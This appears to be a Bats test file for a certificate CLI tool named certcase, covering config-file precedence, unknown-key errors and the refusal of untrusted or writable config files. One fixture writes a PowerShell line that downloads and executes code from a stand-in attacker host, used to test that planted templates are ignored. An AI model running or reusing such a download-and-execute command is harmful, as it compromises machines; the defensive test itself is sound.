load helper

@test "certcase.json gives defaults; a variable wins over it; an option over both" {
    mkdir -p .config/certcase
    echo '{"at": "2045-01-01"}' >.config/certcase/certcase.json
    echo '{"format": "json"}' >certcase.json
    certcase inspect "$ROOT"
    exits 1
    says '"schema"'
    complains "certcase.json: it sets format" ".config/certcase/certcase.json: it sets at"
    CERTCASE_FORMAT=text certcase inspect "$ROOT"
    exits 1
    [[ $output != *'"schema"'* ]]
    CERTCASE_AT=2046-01-01 certcase inspect "$ROOT" --at "$AT" --format text
    exits 0
}

@test "the file in XDG_CONFIG_HOME, else in ~/.config" {
    mkdir -p xdg/certcase .config/certcase
    echo '{"at": "2045-01-01"}' >xdg/certcase/certcase.json
    echo '{"at": "2026-11-20"}' >.config/certcase/certcase.json
    certcase inspect "$ROOT"
    exits 0
    XDG_CONFIG_HOME=$PWD/xdg certcase inspect "$ROOT"
    exits 1
}

@test "an unknown key stops with 2 and the key that was meant" {
    echo '{"platfrom": "windows-2022"}' >certcase.json
    certcase inspect "$ROOT"
    exits 2
    complains "certcase.json: platfrom: no option is called so" 'did you mean "platform"?'
    certcase inspect -h
    exits 0 # help works with a broken configuration
}

@test "environments and other lists" {
    mkdir -p .config/certcase
    printf '{"environments": "%s", "environment": ["Test", "Production"], "no-input": true}' "$INVENTORY" >.config/certcase/certcase.json
    certcase build "$ROOT" --at "$AT" --dry-run --format json
    exits 0
    CERTCASE_ENVIRONMENT='Tset' certcase build "$ROOT" --at "$AT" --dry-run
    exits 1
    says "environment-unknown"
}

@test "--help can't be made the default, and isn't suggested either" {
    echo '{"help": true}' >certcase.json
    certcase inspect "$ROOT" --at "$AT"
    exits 2
    complains "certcase.json: help: no option is called so" "keys are the long names"
}

@test "a default waits for the option that it needs; what is typed does not" {
    CERTCASE_FORCE=yes CERTCASE_KEY_PASSWORD_FILE=nothing.txt certcase inspect "$ROOT" --at "$AT"
    exits 0
    CERTCASE_KEY_PASSWORD_FILE=nothing.txt build --dry-run
    exits 0
    certcase inspect "$ROOT" --at "$AT" --force=no
    exits 0
    CERTCASE_EXTRACT=out certcase inspect "$ROOT" --at "$AT" --force
    exits 0
    build --dry-run --key-password-file nothing.txt
    exits 2
}

@test "a stranger's folder brings no templates, no place to write, no policy" {
    mkdir tp
    echo 'iex (iwr https://evil.example/a)' >tp/install_trusted_root.ps1
    echo '{"templates": "tp", "output": "elsewhere", "force": true}' >certcase.json
    build -o o
    exits 0
    complains "certcase.json: not taken from the current folder" "templates, force"
    [ ! -e elsewhere ]
    echo "# mine" >victim
    echo '{"into": "victim"}' >certcase.json
    certcase renewals "$ROOT" --within 400d --at "$AT"
    [ "$(cat victim)" = "# mine" ]
    echo '{"policy": "p.xml"}' >certcase.json
    certcase audit o --at "$AT"
    exits 2
    complains "certcase.json: policy: not taken from the current folder" "give --policy or CERTCASE_POLICY"
}

@test "--version --verbose names the files that are read" {
    mkdir -p .config/certcase
    echo '{}' >.config/certcase/certcase.json
    echo '{}' >certcase.json
    certcase --version --verbose
    exits 0
    says "configuration: certcase.json"
    says "configuration: $HOME/.config/certcase/certcase.json"
}

@test "a certcase.json of the current folder that others can write, or that is somebody else's, is refused" {
    echo '{"format": "json"}' >certcase.json
    chmod o+w certcase.json
    certcase inspect "$ROOT" --at "$AT"
    exits 2
    complains "certcase.json: can be written by others, so it isn't used" "chmod go-w"
    [ -z "$output" ]
    chmod go-w certcase.json
    certcase inspect "$ROOT" --at "$AT"
    exits 0
    [ "$(id -u)" = 0 ] || skip "only root can give a file away"
    chown 65534 certcase.json
    certcase inspect "$ROOT" --at "$AT"
    exits 2
    complains "certcase.json: belongs to somebody else, so it isn't used"
}
